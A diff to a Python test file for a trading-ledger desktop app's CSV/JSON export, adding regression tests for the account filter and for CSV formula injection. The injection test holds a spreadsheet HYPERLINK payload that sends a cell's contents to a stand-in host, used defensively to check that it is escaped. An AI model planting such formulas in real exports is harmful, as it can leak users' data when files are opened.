@@ -4,7 +4,11 @@ its error message for a path that cannot be written, and Copy on every table."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
+from datetime import UTC, datetime
+from decimal import Decimal as D
 from pathlib import Path
 
 from PySide6.QtCore import Qt
@@ -14,6 +18,7 @@ from PySide6.QtWidgets import QLineEdit, QMessageBox
 
 from app.db import repository
 from app.domain.export import COLUMNS, ExportFormat, ExportKind
+from app.domain.manual import LifecycleVersion, MarkClosedRequest
 from app.ui.exporting import CSV_FILTER, JSON_FILTER, destination_format
 from tests.ui.conftest import eventually, free_port
 from tests.ui.test_charts import known_ledger
@@ -94,8 +99,8 @@ def test_copy_selected_and_all_rows_as_tab_separated_text(make_app, qloop, tmp_p
         QGuiApplication.clipboard().clear()
         QTest.keyClick(w.cache_table, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
         header, row, *rest = QGuiApplication.clipboard().text().split("\n")
-        assert header.split("\t")[:4] == ["Account", "Symbol", "Type", "Qty"]
-        assert row.split("\t")[:4] == ["DU222", "MSFT", "STK", "0.25"]
+        assert header.split("\t")[:3] == ["Account", "Symbol", "Qty"]
+        assert row.split("\t")[:3] == ["DU222", "MSFT", "0.25"]
         assert rest == [""]
 
         # The history's events: several rows may be selected; "Copy all rows" takes them all.
@@ -126,3 +131,62 @@ def test_destination_format():
     assert destination_format(Path("a.csv"), JSON_FILTER) is ExportFormat.CSV
     assert destination_format(Path("a"), JSON_FILTER) is ExportFormat.JSON
     assert destination_format(Path("a.txt"), CSV_FILTER) is ExportFormat.CSV
+
+
+def test_export_honours_the_account_filter_unless_asked_for_everything(make_app, qloop, tmp_path):
+    """Regression (issue 19): File → Export ignored the account filter the user was looking at."""
+    known_ledger(tmp_path / "ledger.sqlite")  # DU111: AAPL (closed); DU222: MSFT (open)
+    app = make_app(free_port())
+    w = app.window
+    exporter = app.controller.exporter
+
+    async def scenario():
+        await app.start()
+        assert w.export_only_shown.isChecked()  # the default: what is shown
+        w.account_filter.setCurrentText("DU111")
+        target = tmp_path / "all-du111.csv"
+        assert await exporter.export_to(ExportKind.ALL, target, ExportFormat.CSV) == 1
+        rows = list(csv.DictReader(io.StringIO(target.read_text())))
+        assert {r["account"] for r in rows} == {"DU111"} and rows[0]["symbol"] == "AAPL"
+        assert "of DU111" in w.statusBar().currentMessage()
+        # The user asks for everything: the filter stays, the export covers both accounts.
+        w.export_only_shown.setChecked(False)
+        assert await exporter.export_to(ExportKind.ALL, target, ExportFormat.CSV) == 2
+        rows = list(csv.DictReader(io.StringIO(target.read_text())))
+        assert {r["account"] for r in rows} == {"DU111", "DU222"}
+        # All accounts shown: everything, checked or not.
+        w.export_only_shown.setChecked(True)
+        w.account_filter.setCurrentIndex(0)
+        fills = tmp_path / "fills.json"
+        assert await exporter.export_to(ExportKind.FILLS, fills, ExportFormat.JSON) == 3
+
+    qloop.run_until_complete(asyncio.wait_for(scenario(), 60))
+
+
+def test_csv_neutralises_a_formula_typed_into_mark_closed(make_app, qloop, tmp_path):
+    """Regression (issue 19): a note typed into Mark closed that starts with = (or + - @) was
+    run as a formula by spreadsheets opening the CSV export. Negative amounts stay numbers."""
+    known_ledger(tmp_path / "ledger.sqlite")
+    app = make_app(free_port())
+    w = app.window
+    formula = '=HYPERLINK("http://example.test/?"&A1,"click")'
+
+    async def scenario():
+        await app.start()
+        (msft,) = w.cache_model.values()
+        events = app.runtime.db.run_sync(repository.events, msft.id)
+        seen = LifecycleVersion.of(msft, events[-1].id)
+        when = datetime.now(UTC).replace(microsecond=0)
+        await app.runtime.ledger.mark_closed(MarkClosedRequest(seen, D("390"), when, formula))
+        csv_out, json_out = tmp_path / "events.csv", tmp_path / "events.json"
+        await app.controller.exporter.export_to(ExportKind.EVENTS, csv_out, ExportFormat.CSV)
+        await app.controller.exporter.export_to(ExportKind.EVENTS, json_out, ExportFormat.JSON)
+        rows = list(csv.DictReader(io.StringIO(csv_out.read_text())))
+        notes = [r["note"] for r in rows if r["kind"] == "MARKED_CLOSED"]
+        assert notes == ["'" + formula]
+        losses = [r["realized_pnl"] for r in rows if r["realized_pnl"].startswith("-")]
+        assert "-601" in losses  # AAPL's close: a negative number, kept as a number
+        document = json.loads(json_out.read_text())
+        assert [r["note"] for r in document["rows"] if r["kind"] == "MARKED_CLOSED"] == [formula]
+
+    qloop.run_until_complete(asyncio.wait_for(scenario(), 60))
